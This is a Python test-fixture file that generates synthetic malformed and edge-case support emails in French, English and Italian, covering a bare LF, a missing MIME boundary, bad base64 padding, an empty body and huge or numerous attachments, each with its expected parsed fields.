LONG_BODY_50 = "Référence des pièces : " + " ".join(f"PN-{i:05d}" for i in range(120))
add(
    "malformed-bare-lf-bad-date-long-lines",
    f"""Return-Path: <martine.caron@example.fr>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Fri, 13 Nov 2026 16:30:12 +0100")}Date: vendredi 13 novembre 2026 16h30
From: Martine Caron <martine.caron@example.fr>
To: sav@desk.example
X-Spam-Score: 1.3{BARE_LF}X-Spam-Level: *
Subject: Commande de pièces pour le lave-linge
Message-ID: <bare-lf-50.7731@mail.example.fr>
X-Campaign-Trace: {LONG_50}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Bonjour,

Je voudrais commander les pièces suivantes pour mon lave-linge WM-8 :
{LONG_BODY_50}

Merci de m'envoyer un devis.
Martine Caron
""",
    message_id="<bare-lf-50.7731@mail.example.fr>",
    from_address="martine.caron@example.fr",
    from_name="Martine Caron",
    to=["sav@desk.example"],
    subject="Commande de pièces pour le lave-linge",
    text_contains=["commander les pièces suivantes", "PN-00119", "Merci de m'envoyer un devis."],
    language="fr",
    note="A CRLF file with a bare LF between two headers, an unparsable French Date, a header line and a body line longer than 998 characters.",
)

TRUNC_51_PDF = pdf(51, 7_000, "Bon de livraison")
add(
    "missing-end-boundary",
    f"""Return-Path: <oscar.bell@example.co.uk>
Delivered-To: support@desk.example
{received("support@desk.example", "Fri, 13 Nov 2026 17:02:40 +0000")}Date: Fri, 13 Nov 2026 17:02:38 +0000
From: Oscar Bell <oscar.bell@example.co.uk>
To: support@desk.example
Subject: Delivery note for the broken microwave
Message-ID: <51-missing-end@example.co.uk>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="==b51=="

--==b51==
Content-Type: text/plain; charset=utf-8

Please find the delivery note attached; the microwave arrived dented.
Oscar

--==b51==
Content-Type: application/pdf; name="delivery-note.pdf"
Content-Disposition: attachment; filename="delivery-note.pdf"
Content-Transfer-Encoding: base64

{b64(TRUNC_51_PDF)}
""",
    message_id="<51-missing-end@example.co.uk>",
    from_address="oscar.bell@example.co.uk",
    from_name="Oscar Bell",
    to=["support@desk.example"],
    subject="Delivery note for the broken microwave",
    text_contains=["the microwave arrived dented"],
    attachments=[att("delivery-note.pdf", "application/pdf", len(TRUNC_51_PDF))],
    language="en",
    note="A multipart/mixed whose closing boundary '--==b51==--' never comes: the last part runs to the end of the file and must still be read.",
)

add(
    "boundary-never-appears",
    f"""Return-Path: <rita.marchetti@example.it>
Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Fri, 13 Nov 2026 18:11:05 +0100")}Date: Fri, 13 Nov 2026 18:11:03 +0100
From: Rita Marchetti <rita.marchetti@example.it>
To: assistenza@desk.example
Subject: Richiesta manuale macchina del pane
Message-ID: <52-no-boundary@example.it>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="----=_NextPart_52_never_used"

Salve, potreste mandarmi il manuale in italiano della macchina del pane BM-3?
Quello nella scatola è solo in inglese e tedesco.
Grazie, Rita
""",
    message_id="<52-no-boundary@example.it>",
    from_address="rita.marchetti@example.it",
    from_name="Rita Marchetti",
    to=["assistenza@desk.example"],
    subject="Richiesta manuale macchina del pane",
    text_contains=["il manuale in italiano della macchina del pane BM-3", "è solo in inglese"],
    language="it",
    note="Declared multipart/alternative but its boundary never appears: the whole body is read as plain text (UTF-8 by default) and there are no attachments.",
)

PAD_53_TEXT = "Bonjour, le thermostat de mon radiateur R-200 affiche « Err 7 » en permanence. Que signifie ce code ?\nAntoine Roy\n"
_PAD_53 = base64.b64encode(PAD_53_TEXT.encode()).decode().rstrip("=")
add(
    "base64-invalid-padding",
    f"""Return-Path: <antoine.roy@example.fr>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Sat, 14 Nov 2026 09:00:21 +0100")}Date: Sat, 14 Nov 2026 09:00:19 +0100
From: Antoine Roy <antoine.roy@example.fr>
To: sav@desk.example
Subject: Radiateur R-200 : code Err 7
Message-ID: <53-bad-padding@example.fr>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{_PAD_53[:76]}
{_PAD_53[76:152]}
{_PAD_53[152:]}
""",
    message_id="<53-bad-padding@example.fr>",
    from_address="antoine.roy@example.fr",
    from_name="Antoine Roy",
    to=["sav@desk.example"],
    subject="Radiateur R-200 : code Err 7",
    text_contains=["affiche « Err 7 » en permanence", "Que signifie ce code ?"],
    language="fr",
    note=f"A base64 body whose '=' padding was cut off ({len(_PAD_53) % 4} characters in the last group): decoders must add the padding back, not fail.",
)

add(
    "empty-body",
    f"""Return-Path: <kate.morgan@example.co.uk>
Delivered-To: support@desk.example
{received("support@desk.example", "Sat, 14 Nov 2026 10:15:02 +0000")}Date: Sat, 14 Nov 2026 10:15:00 +0000
From: Kate Morgan <kate.morgan@example.co.uk>
To: support@desk.example
Subject: Please call me back about order UK-30115
Message-ID: <E1tB7x2-0004kR-9Q@example.co.uk>
MIME-Version: 1.0
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: 7bit

""",
    message_id="<E1tB7x2-0004kR-9Q@example.co.uk>",
    from_address="kate.morgan@example.co.uk",
    from_name="Kate Morgan",
    to=["support@desk.example"],
    subject="Please call me back about order UK-30115",
    text_contains=[],
    language="en",
    note="A message whose whole request is in the subject and whose body is empty (nothing after the blank line), so text_contains is empty.",
)

HUGE_55 = pdf(55, 3_000_000, "Manuel d'atelier")
add(
    "huge-attachment-3mb",
    f"""Return-Path: <atelier@reparelec.example>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Sat, 14 Nov 2026 11:40:55 +0100")}Message-ID: <a9b8c7d6-e5f4-4321-8a9b-0c1d2e3f4a5b@reparelec.example>
Date: Sat, 14 Nov 2026 11:40:12 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: fr
To: sav@desk.example
From: Atelier Reparelec <atelier@reparelec.example>
Subject: Rapport d'intervention complet (scan)
Content-Type: multipart/mixed; boundary="------------HuGe55aTtAcHmEnT0123456"

This is a multi-part message in MIME format.
--------------HuGe55aTtAcHmEnT0123456
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Bonjour,

Ci-joint le rapport d'intervention scanné (3 Mo) pour le dossier de
garantie de M. Picard. Désolé pour la taille du fichier.

L'atelier Reparelec

--------------HuGe55aTtAcHmEnT0123456
Content-Type: application/pdf; name="rapport-intervention-picard.pdf"
Content-Disposition: attachment; filename="rapport-intervention-picard.pdf"
Content-Transfer-Encoding: base64

{b64(HUGE_55, 72)}

--------------HuGe55aTtAcHmEnT0123456--
""",
    message_id="<a9b8c7d6-e5f4-4321-8a9b-0c1d2e3f4a5b@reparelec.example>",
    from_address="atelier@reparelec.example",
    from_name="Atelier Reparelec",
    to=["sav@desk.example"],
    subject="Rapport d'intervention complet (scan)",
    text_contains=["Ci-joint le rapport d'intervention scanné (3 Mo)", "Désolé pour la taille"],
    attachments=[att("rapport-intervention-picard.pdf", "application/pdf", len(HUGE_55))],
    language="fr",
    note="A huge attachment: 3,000,000 bytes of PDF-looking data from a fixed seed, base64 in 72-character lines (about 4.1 MB in the file).",
)

MANY_56_TEXT = "Buongiorno, vi mando tutte le foto dei danni agli elettrodomestici e le ricevute: sono 30 file, scusate.\nDavide Sala\n"
_COLOURS = [(i * 8 % 256, 255 - i * 8 % 256, i * 37 % 256) for i in range(30)]
MANY_56 = []
for _i, _rgb in enumerate(_COLOURS, start=1):
    if _i % 10 == 0:
        MANY_56.append((f"scontrino_{_i:02d}.pdf", "application/pdf", pdf(5600 + _i, 1_500)))
    else:
        MANY_56.append((f"foto_{_i:02d}.png", "image/png", png(16, 16, _rgb)))
_MANY_56_PARTS = "".join(
    f"""--000000000000aa56bb061f8c9d0e
Content-Type: {ctype}; name="{name}"
Content-Disposition: attachment; filename="{name}"
Content-Transfer-Encoding: base64
Content-ID: <f_many56_{n:02d}>
X-Attachment-Id: f_many56_{n:02d}

{b64(data)}
"""
    for n, (name, ctype, data) in enumerate(MANY_56, start=1)
)
add(
    "thirty-attachments-it",
    f"""Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Sat, 14 Nov 2026 12:30:40 +0100")}MIME-Version: 1.0
From: Davide Sala <davide.sala@gmail.example>
Date: Sat, 14 Nov 2026 12:30:02 +0100
Message-ID: <CAD5aL4x9Yk1zB3cD5eF7gH9iJ1kL3mN5oP7qR9sT1uV3wX5@mail.gmail.example>
Subject: Tutte le foto dei danni del trasloco (30 file)
To: assistenza@desk.example
Content-Type: multipart/mixed; boundary="000000000000aa56bb061f8c9d0e"

--000000000000aa56bb061f8c9d0e
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(MANY_56_TEXT)}
{_MANY_56_PARTS}--000000000000aa56bb061f8c9d0e--
""",
    message_id="<CAD5aL4x9Yk1zB3cD5eF7gH9iJ1kL3mN5oP7qR9sT1uV3wX5@mail.gmail.example>",
    from_address="davide.sala@gmail.example",
    from_name="Davide Sala",
    to=["assistenza@desk.example"],
    subject="Tutte le foto dei danni del trasloco (30 file)",
    text_contains=["vi mando tutte le foto dei danni", "sono 30 file"],
    attachments=[att(name, ctype, len(data)) for name, ctype, data in MANY_56],
    language="it",
    note="Thirty small attachments (27 PNG images, 3 PDFs) after a plain-text body with no HTML alternative.",
)

IMAGE_57 = jpeg(57, 38_400)
add(
    "image-only-no-text",
    f"""Return-Path: <3471234567@mms.operatore.example>
Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Sat, 14 Nov 2026 13:05:09 +0100")}Date: Sat, 14 Nov 2026 13:05:07 +0100
From: 3471234567@mms.operatore.example
To: assistenza@desk.example
Subject: Foto etichetta
Message-ID: <mms.20261114130507.3471234567@mms.operatore.example>
MIME-Version: 1.0
Content-Type: image/jpeg; name="IMG_20261114_130455.jpg"
Content-Disposition: inline; filename="IMG_20261114_130455.jpg"
Content-Transfer-Encoding: base64

{b64(IMAGE_57)}
""",
    message_id="<mms.20261114130507.3471234567@mms.operatore.example>",
    from_address="3471234567@mms.operatore.example",
    to=["assistenza@desk.example"],
    subject="Foto etichetta",
    text_contains=[],
    attachments=[att("IMG_20261114_130455.jpg", "image/jpeg", len(IMAGE_57), inline=True)],
    language="it",
    note="An MMS-to-email gateway message that is only a photo: the top-level part is image/jpeg, inline, and there is no text at all.",
)


if __name__ == "__main__":
    main()
